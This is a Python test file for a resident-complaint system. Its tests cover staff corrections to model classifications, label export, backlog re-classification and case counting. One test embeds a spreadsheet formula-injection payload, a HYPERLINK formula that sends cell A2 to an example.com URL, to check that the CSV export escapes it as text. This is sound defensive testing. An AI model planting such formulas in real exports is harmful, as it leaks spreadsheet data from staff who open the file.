"""Staff correct a classification; the correction is kept as a label; a new model re-classifies the backlog."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import msgspec

from suggestions.classify.backlog import export_classifications, export_corrections, reclassify
from tests.e2e.test_hotspots import FixedTopic

NOISE = "楼下的烧烤店每天晚上营业到凌晨两点，油烟和吵闹声让人没法睡觉。"


async def classified_item(client: Any, drain: Any, staff: dict[str, str], text: str = NOISE) -> dict[str, Any]:
    created = (await client.post("/api/v1/items", json={"channel": "web", "text": text})).json()
    await drain()
    item: dict[str, Any] = (await client.get(f"/api/v1/items/{created['id']}", headers=staff)).json()
    return item


async def test_a_correction_replaces_the_classification_and_is_exported(
    client: Any, drain: Any, staff: dict[str, str], conn: Any, tmp_path: Path
) -> None:
    item = await classified_item(client, drain, staff)
    model_topic = item["classification"]["topic"]
    new_topic = "环境保护" if model_topic != "环境保护" else "商贸旅游"

    response = await client.put(
        f"/api/v1/items/{item['id']}/classification", json={"topic": new_topic, "risk_level": 2}, headers=staff
    )
    assert response.status_code == 200, response.text
    corrected = response.json()["classification"]
    assert (corrected["topic"], corrected["risk_level"], corrected["source"]) == (new_topic, 2, "staff")
    entry = (await client.get("/api/v1/triage", headers=staff)).json()["items"][0]
    assert (entry["topic"], entry["risk_level"], entry["priority"]) == (new_topic, 2, 1)
    assert await conn.fetchval("SELECT count(*) FROM classifications WHERE item_id = $1", item["id"]) == 2

    assert await export_corrections(conn, tmp_path / "corrections.csv") == 1
    with (tmp_path / "corrections.csv").open(encoding="utf-8") as rows:
        [row] = list(csv.DictReader(rows))
    # Only what staff changed is a label.
    risk_label = "" if item["classification"]["risk_level"] == 2 else "2"
    assert row == {"text": NOISE, "topic": new_topic, "risk_level": risk_label}


async def test_corrections_are_validated(
    client: Any, drain: Any, staff: dict[str, str], operator: dict[str, str]
) -> None:
    item = await classified_item(client, drain, staff)
    url = f"/api/v1/items/{item['id']}/classification"
    assert (await client.put(url, json={"topic": "外星事务"}, headers=staff)).status_code == 422
    assert (await client.put(url, json={"risk_level": 4}, headers=staff)).status_code == 422
    assert (await client.put(url, json={}, headers=staff)).status_code == 422
    assert (await client.put(url, json={"risk_level": 1}, headers=operator)).status_code == 403
    assert (
        await client.put("/api/v1/items/999999/classification", json={"risk_level": 1}, headers=staff)
    ).status_code == 404


class RenamedModel:
    """The same model under a new version, as after a promotion."""

    def __init__(self, model: Any) -> None:
        self.model = model
        self.version = model.version + "-next"
        self.topics = model.topics

    def predict(self, texts: list[str]) -> Any:
        return self.model.predict(texts)


async def test_reclassify_moves_model_items_to_the_new_version_and_keeps_corrections(
    client: Any, drain: Any, staff: dict[str, str], pool: Any, model: Any, tmp_path: Path
) -> None:
    first = await classified_item(client, drain, staff)
    second = await classified_item(client, drain, staff, "建议在小区门口增设一个快递柜。")
    second_risk = 1 if second["classification"]["risk_level"] != 1 else 2
    await client.put(f"/api/v1/items/{second['id']}/classification", json={"risk_level": second_risk}, headers=staff)
    # A reviewer who confirms the model's labels (to clear needs_review) corrects nothing.
    third = await classified_item(client, drain, staff, "小区东门的路灯坏了一个多月。")
    same = {key: third["classification"][key] for key in ("topic", "risk_level")}
    await client.put(f"/api/v1/items/{third['id']}/classification", json=same, headers=staff)

    newer = RenamedModel(model)
    assert await reclassify(pool, newer) == 1
    assert await reclassify(pool, newer) == 0  # nothing left
    versions = dict(
        await pool.fetch(
            "SELECT i.id, c.model_version FROM items i JOIN classifications c ON c.id = i.classification_id"
        )
    )
    assert versions[first["id"]] == newer.version
    assert versions[second["id"]].startswith("staff:")

    async with pool.acquire() as conn:
        # One line per item, not per classification: the re-classification and the correction add none.
        assert await export_classifications(conn, tmp_path / "c.jsonl", zone=ZoneInfo("Asia/Shanghai")) == 3
    records = [msgspec.json.decode(line) for line in (tmp_path / "c.jsonl").read_bytes().splitlines()]
    assert all(r["at"].endswith("+08:00") for r in records)  # the district's months, not UTC's
    received = [datetime.fromisoformat(item["received_at"]) for item in (first, second, third)]
    assert [datetime.fromisoformat(r["at"]) for r in records] == received  # dated by arrival, not by the promotion
    assert [(r["model_version"], r["source"], r["corrected"]) for r in records] == [
        (model.version, "model", False),
        (model.version, "model", True),
        (model.version, "model", False),
    ]
    assert all("text" not in r for r in records)


PLACED = "霍营街道华龙苑北里3号楼楼下的烧烤店每天晚上营业到凌晨两点，油烟和吵闹声让人没法睡觉。"


async def counts(conn: Any) -> dict[str, tuple[int, int]]:
    """Problems and reports per topic, over every day of the street."""
    rows = await conn.fetch(
        "SELECT topic, sum(problems) AS p, sum(reports) AS r FROM place_topic_days WHERE street = '霍营街道' "
        "GROUP BY topic HAVING sum(problems) > 0 OR sum(reports) > 0"
    )
    return {row["topic"]: (row["p"], row["r"]) for row in rows}


async def test_a_corrected_topic_is_counted_where_staff_put_it(
    client: Any, drain: Any, staff: dict[str, str], conn: Any
) -> None:
    """Bursts count a street's problems by topic: a report staff move to another topic moves its count, and a case it
    holds alone follows it. A correction of the risk shows in its case."""
    item = await classified_item(client, drain, staff, PLACED)
    model_topic = item["classification"]["topic"]
    new_topic = "商贸旅游" if model_topic != "商贸旅游" else "环境保护"
    assert await counts(conn) == {model_topic: (1, 1)}

    await client.put(f"/api/v1/items/{item['id']}/classification", json={"topic": new_topic}, headers=staff)
    assert await counts(conn) == {new_topic: (1, 1)}
    case = (await client.get(f"/api/v1/cases/{item['case_id']}", headers=staff)).json()
    assert case["topic"] == new_topic

    await client.put(f"/api/v1/items/{item['id']}/classification", json={"risk_level": 3}, headers=staff)
    assert (await client.get(f"/api/v1/cases/{item['case_id']}", headers=staff)).json()["max_risk"] == 3


async def test_a_new_models_topic_is_counted_where_it_put_it(
    client: Any, drain: Any, staff: dict[str, str], pool: Any, model: Any
) -> None:
    item = await classified_item(client, drain, staff, PLACED)
    elsewhere = "商贸旅游" if item["classification"]["topic"] != "商贸旅游" else "环境保护"
    assert await reclassify(pool, FixedTopic(RenamedModel(model), elsewhere)) == 1
    async with pool.acquire() as conn:
        assert await counts(conn) == {elsewhere: (1, 1)}


async def test_a_sent_back_item_nobody_classified_goes_to_its_desk_once_classified(
    client: Any, staff: dict[str, str], pool: Any, model: Any
) -> None:
    created = (await client.post("/api/v1/items", json={"channel": "web", "text": NOISE})).json()
    url = f"/api/v1/items/{created['id']}"
    # The worker gave up on it; a desk answered it all the same, and the resident sent the reply back.
    await pool.execute("UPDATE items SET status = 'failed', last_error = 'WorkerStopped' WHERE id = $1", created["id"])
    assert (await client.post(f"{url}/assign", json={"to": "城管科"}, headers=staff)).status_code == 200
    assert (await client.post(f"{url}/close", json={"answer": "已处理。"}, headers=staff)).status_code == 200
    rated = await client.post(f"/api/v1/track/{created['tracking_code']}/rating", json={"rating": "dissatisfied"})
    assert rated.json()["status"] == "failed"

    corrected = await client.put(
        f"{url}/classification", json={"topic": model.topics[0], "risk_level": 1}, headers=staff
    )
    assert corrected.status_code == 200, corrected.text
    assert (corrected.json()["status"], corrected.json()["assigned_to"]) == ("assigned", "城管科")
    desk = (await client.get("/api/v1/triage", params={"status": "assigned"}, headers=staff)).json()["items"]
    assert [e["id"] for e in desk] == [created["id"]]


async def test_a_report_classified_after_its_closing_is_placed_when_sent_back(
    client: Any, staff: dict[str, str], pool: Any, model: Any
) -> None:
    created = (await client.post("/api/v1/items", json={"channel": "web", "text": NOISE})).json()
    url = f"/api/v1/items/{created['id']}"
    # The worker gave up on it; a desk answered it, and staff classified it afterwards, closed as it was.
    await pool.execute("UPDATE items SET status = 'failed', last_error = 'WorkerStopped' WHERE id = $1", created["id"])
    assert (await client.post(f"{url}/close", json={"answer": "已处理。"}, headers=staff)).status_code == 200
    corrected = await client.put(
        f"{url}/classification", json={"topic": model.topics[0], "risk_level": 1}, headers=staff
    )
    assert (corrected.status_code, corrected.json()["case_id"]) == (200, None)

    # Sent back, it is at work again: placed in a case and counted as any report is.
    rated = await client.post(f"/api/v1/track/{created['tracking_code']}/rating", json={"rating": "dissatisfied"})
    assert rated.json()["status"] == "open"
    item = (await client.get(url, headers=staff)).json()
    assert item["case_id"] is not None


async def test_a_text_that_reads_as_a_formula_is_exported_as_text(
    client: Any, drain: Any, staff: dict[str, str], conn: Any, tmp_path: Path
) -> None:
    """Staff open the export in a spreadsheet: a resident's text beginning with = ran there as a formula (a link that
    sends the sheet's cells away, a command). The cell says it is text, and training reads the words as they were."""
    from ml.corpus import read_extra

    formula = '=HYPERLINK("http://example.com/?"&A2,"楼下烧烤店油烟太大，请点此查看照片")'
    item = await classified_item(client, drain, staff, text=formula)
    new_topic = "环境保护" if item["classification"]["topic"] != "环境保护" else "商贸旅游"
    put = await client.put(f"/api/v1/items/{item['id']}/classification", json={"topic": new_topic}, headers=staff)
    assert put.status_code == 200, put.text
    out = tmp_path / "corrections.csv"
    assert await export_corrections(conn, out) == 1
    with out.open(encoding="utf-8") as rows:
        [row] = list(csv.DictReader(rows))
    assert row["text"] == "'" + formula
    assert [extra.text for extra in read_extra(out, [new_topic])] == [formula]
